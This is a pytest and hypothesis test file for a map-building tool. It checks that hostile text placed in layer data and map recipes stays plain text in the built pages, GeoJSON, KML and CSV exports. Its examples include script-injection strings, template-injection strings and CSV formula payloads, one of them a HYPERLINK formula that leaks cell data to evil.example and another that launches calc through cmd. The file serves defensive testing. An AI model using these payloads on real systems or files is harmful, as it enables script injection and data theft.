"""Hostile text in every string of the data and of the recipes: always text, never markup.

Each example writes a scratch copy of layers/ and maps/ with the payload in many
places at once, builds it, and checks every output: the offline pages in
headless Chromium (network blocked, no dialog, no sentinel, no page error,
every feature drawn), the web pages and embeds (no sentinel, no dialog), the
GeoJSON (strict JSON), the KML (well-formed XML) and events.csv (no formula).
"""

from __future__ import annotations

import copy
import tempfile
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from geo.browser import browser, offline_page
from tests.expected import expected_counts
from tests.hostile import (
    EVERYTHING,
    HOSTILE,
    MAP_NAMES,
    as_required_text,
    assert_bad_input,
    assert_built,
    assert_clean,
    check_exports,
    check_page,
    geo,
    hostile_text,
    read_layers,
    read_recipes,
    write_layers,
    write_recipes,
)

# Strings the data contract gives a meaning (slugs, times, enumerations, references): not free text.
PROTECTED = {
    "id",
    "time",
    "time_precision",
    "geometry_quality",
    "jaffar_express_stop",
    "from_station",
    "to_station",
    "place",
    "between_stations",
    "via",
    "date",
    "near_station",
    "incident",
    "context_kind",
    "iso_a3",
    "name_ur",  # Urdu script only: the validator refuses Latin text there
    "image",  # an image's data URI only: the validator refuses anything else (tests/test_validate.py)
}
BASE_LAYERS = read_layers()
BASE_RECIPES = read_recipes()


@pytest.fixture(scope="module")
def chromium():
    with browser() as instance:
        yield instance


def poison(value, payload: str, key: str | None = None):
    """Every free-text string inside `value` replaced by the payload (kept non-blank)."""
    if key in PROTECTED:
        return value
    if isinstance(value, str):
        return as_required_text(payload)
    if isinstance(value, list):
        return [poison(v, payload) for v in value]
    if isinstance(value, dict):
        return {k: poison(v, payload, k) for k, v in value.items()}
    return value


def poisoned_layers(payload: str) -> dict[str, dict]:
    layers = copy.deepcopy(BASE_LAYERS)
    for collection in layers.values():
        for feature in collection["features"]:
            props = feature["properties"]
            for key, value in list(props.items()):
                if key == "sources":
                    props[key] = [{**s, "outlet": as_required_text(payload), "url": payload} for s in value]
                elif key != "figures":
                    props[key] = poison(value, payload, key)
    # Two distinct hostile claimants, so the timeline's style table has hostile keys side by side.
    events = layers["events"]["features"]
    for feature in events[::2]:
        feature["properties"]["claimed_by"] = as_required_text(payload) + " 2"
    return layers


def check_build(chromium, layers_dir: Path, maps_dir: Path, out: Path) -> None:
    check_exports(out)
    for name in MAP_NAMES:
        counts = expected_counts(maps_dir / f"{name}.toml", out / "geojson")
        check_page(chromium, out / "offline" / f"{name}.html", counts)
        for page in (out / f"{name}.html", out / "embed" / f"{name}.html"):
            check_web_page(chromium, page)


def check_web_page(chromium, html: Path) -> None:
    """A page whose scripts come from a CDN (blocked here): still no injected script, dialog or handler."""
    page = offline_page(chromium)
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    try:
        page.goto(html.resolve().as_uri())
        page.wait_for_timeout(50)
        assert page.evaluate("() => window.__pwned") is None, f"{html}: injected script ran"
        assert dialogs == [], f"{html}: a dialog opened"
        handlers = page.evaluate(
            "() => [...document.querySelectorAll('*')].flatMap(e => [...e.attributes]"
            ".filter(a => a.name.startsWith('on')).map(a => e.tagName + ' ' + a.name))"
        )
        assert handlers == [], f"{html}: elements with event-handler attributes: {handlers[:5]}"
    finally:
        page.context.close()


@HOSTILE
@given(payload=hostile_text)
@example(payload=EVERYTHING)
@example(payload="</script><img src=x onerror=alert(1)>")
@example(payload="<!--<script>")
@example(payload="=1+1\u2028\u2029")
def test_hostile_text_in_every_data_string_stays_text(chromium, payload):
    """Defects 1, 3, 6 (stored script injection; CSV formulas; XML-forbidden characters): any text in any
    string property of any layer (names, summaries, claimed_by used as style-table keys, claimed_by_detail,
    notes, place_reported, position_basis, sources' outlet and url, lists of names...) builds, shows as text
    in every page, and leaves the GeoJSON strict, the KML well-formed and the CSV free of formula cells."""
    with tempfile.TemporaryDirectory() as tmp:
        tmp = Path(tmp)
        layers_dir = write_layers(tmp / "layers", poisoned_layers(payload))
        maps_dir = write_recipes(tmp / "maps", BASE_RECIPES)
        result = geo("build", "--layers", layers_dir, "--maps", maps_dir, "--out", tmp / "dist")
        assert_built(result)
        check_build(chromium, layers_dir, maps_dir, tmp / "dist")


def poisoned_recipes(payload: str) -> dict[str, dict]:
    text = as_required_text(payload)
    recipes = copy.deepcopy(BASE_RECIPES)
    for recipe in recipes.values():
        for key in ("title", "description", "attribution"):
            recipe[key] = text
        recipe["alt_text"] = text
        renamed = {}
        for i, layer in enumerate(recipe["layer"]):
            renamed[layer["name"]] = layer["name"] = f"{text} {i}"
            layer["legend"] = f"{text} legend {i}"
            if "style_by" in layer:
                style_by = layer["style_by"]
                style_by["default_label"] = text + " default"
                for j, cls in enumerate(style_by["class"]):
                    cls["label"] = f"{text} class {j}"
                style_by["class"][0]["values"].append(text + " 2")
        if "fit" in recipe["view"]:
            recipe["view"]["fit"] = renamed[recipe["view"]["fit"]]
        if "timeline" in recipe:
            recipe["timeline"]["layer"] = renamed[recipe["timeline"]["layer"]]
            recipe["timeline"]["disputed"] = {
                f"{text} {label}": figures for label, figures in recipe["timeline"]["disputed"].items()
            }
        for i, basemap in enumerate(recipe["basemap"]):
            basemap["name"] = f"{text} basemap {i}"
        for i, area in enumerate(recipe.get("area_label", [])):
            area["text"] = f"{text} area {i}"
    stations = next(layer for layer in recipes["attack-site"]["layer"] if layer["source"] == "stations")
    stations["emphasis"] = {"ids": ["mach"], "legend": text + " emphasis", "style": {"color": "#D55E00"}}
    return recipes


# Jinja's delimiters among characters that every output writes as they are (no escape in HTML, JSON or JS).
template_text = st.lists(
    st.sampled_from(["{{", "}}", "{%", "%}", "{#", "#}", " ", "7*7", "if", "x", "endraw", "-", "+", "raw"]),
    min_size=1,
    max_size=8,
).map("".join)


@HOSTILE
@given(payload=template_text)
@example(payload="{{ 7*7 }}")
@example(payload="{% if true %}x{% endif %}{# c #}{% endraw %}")
@example(payload="{{ unclosed")
def test_template_syntax_in_any_text_is_written_as_it_is(payload):
    """folium reads what each element renders as a Jinja template again: "{{ 7*7 }}" in a claim's summary
    came out as "49", and "{{" alone stopped the build.  Now a claim's summary and a map's title are
    written into every page exactly as they are."""
    with tempfile.TemporaryDirectory() as tmp:
        tmp = Path(tmp)
        layers = copy.deepcopy(BASE_LAYERS)
        layers["events"]["features"][0]["properties"]["summary"] = f"Summary {payload} end"
        recipes = copy.deepcopy(BASE_RECIPES)
        recipes["timeline"]["title"] = f"Title {payload} end"
        layers_dir = write_layers(tmp / "layers", layers)
        maps_dir = write_recipes(tmp / "maps", recipes)
        result = geo("build", "--layers", layers_dir, "--maps", maps_dir, "--out", tmp / "dist")
        assert_built(result)
        for page in (tmp / "dist" / "timeline.html", tmp / "dist" / "offline" / "timeline.html"):
            html = page.read_text(encoding="utf-8")
            assert f"Summary {payload} end" in html and f"<title>Title {payload} end</title>" in html, page


@HOSTILE
@given(payload=hostile_text)
@example(payload=EVERYTHING)
@example(payload="<img src=x onerror=alert(1)>")
@example(payload="</script><script>window.__pwned=1</script>")
def test_hostile_text_in_every_recipe_string_stays_text(chromium, payload):
    """Defects 1 and 2 (recipe text as markup): title, description, attribution, alt text, layer names (in
    Leaflet's layer control), legends, basemap names, style_by class labels and values, the default label,
    emphasis legend and the disputed-figures row labels are text in every page and embed."""
    with tempfile.TemporaryDirectory() as tmp:
        tmp = Path(tmp)
        layers_dir = write_layers(tmp / "layers", BASE_LAYERS)
        # Claims by the hostile claimant too, so the class built from a hostile value is used.
        events = copy.deepcopy(BASE_LAYERS["events"])
        events["features"][0]["properties"]["claimed_by"] = as_required_text(payload) + " 2"
        write_layers(layers_dir, {"events": events})
        maps_dir = write_recipes(tmp / "maps", poisoned_recipes(payload))
        result = geo("build", "--layers", layers_dir, "--maps", maps_dir, "--out", tmp / "dist")
        assert_built(result)
        check_build(chromium, layers_dir, maps_dir, tmp / "dist")


@HOSTILE
@given(dash=hostile_text)
@example(dash="4 4'});window.__pwned=1;({a:'")
@example(dash="</script><img src=x onerror=alert(1)>")
@example(dash="4\u2028window.__pwned=1")
def test_free_text_style_never_reaches_a_script(chromium, dash):
    """Defect 2 (recipe text as markup/code): `style.dash_array` is refused unless it is a dash pattern
    (exit 2 naming the file and key), and whatever is accepted cannot break out of the style function."""
    with tempfile.TemporaryDirectory() as tmp:
        tmp = Path(tmp)
        recipes = copy.deepcopy(BASE_RECIPES)
        for recipe in recipes.values():
            for layer in recipe["layer"]:
                layer.setdefault("style", {})["dash_array"] = dash
        layers_dir = write_layers(tmp / "layers", BASE_LAYERS)
        maps_dir = write_recipes(tmp / "maps", recipes)
        result = geo("build", "--layers", layers_dir, "--maps", maps_dir, "--out", tmp / "dist")
        assert_clean(result)
        if result.returncode == 2:
            assert "dash_array" in result.stderr and ".toml" in result.stderr, result.stderr
            return
        check_build(chromium, layers_dir, maps_dir, tmp / "dist")


formula_key = st.tuples(st.sampled_from("=+-@\t\r"), st.from_regex(r"[A-Za-z0-9_(),.!$ ]{0,10}", fullmatch=True)).map(
    "".join
)


@HOSTILE
@given(values=hostile_text)
@example(values="=1+1")
@example(values='=HYPERLINK("http://evil.example/?leak="&A1,"x")')
def test_csv_has_no_formula_cell(values):
    """Defect 3 (CSV formula injection): every text cell of events.csv that begins with = + - @ tab or CR
    is neutralised with a leading quote, unless it is a number."""
    with tempfile.TemporaryDirectory() as tmp:
        tmp = Path(tmp)
        layers = copy.deepcopy(BASE_LAYERS)
        for feature in layers["events"]["features"][:6]:
            props = feature["properties"]
            for key in ("name", "summary", "claimed_by", "claimed_by_detail", "place_reported", "notes"):
                props[key] = as_required_text(values)
            props["sources"][0]["outlet"] = as_required_text(values)
        layers_dir = write_layers(tmp / "layers", layers)
        result = geo("export", "--format", "csv", "--out", tmp / "events.csv", "--layers-dir", layers_dir)
        assert_built(result)
        from tests.hostile import formula_cells

        bad = formula_cells(tmp / "events.csv")
        assert not bad, f"formula cells: {bad[:6]}"


@HOSTILE
@given(key=formula_key)
@example(key="=cmd|' /C calc'!A0")
@example(key="-2+3")
def test_figure_keys_that_could_be_formula_headers_are_refused(key):
    """Defect 3 (headers): figure keys become CSV headers and GeoPackage columns, so anything but a
    lower-case identifier is bad input naming the key; no header can then start a formula."""
    with tempfile.TemporaryDirectory() as tmp:
        tmp = Path(tmp)
        layers = copy.deepcopy(BASE_LAYERS)
        props = layers["events"]["features"][0]["properties"]
        props["figures"] = {**props["figures"], key: 1}
        layers_dir = write_layers(tmp / "layers", layers)
        result = geo("export", "--format", "csv", "--out", tmp / "events.csv", "--layers-dir", layers_dir)
        assert_bad_input(result, "figures", "jaffar-express-2025-03-11.geojson")
        assert not (tmp / "events.csv").exists()
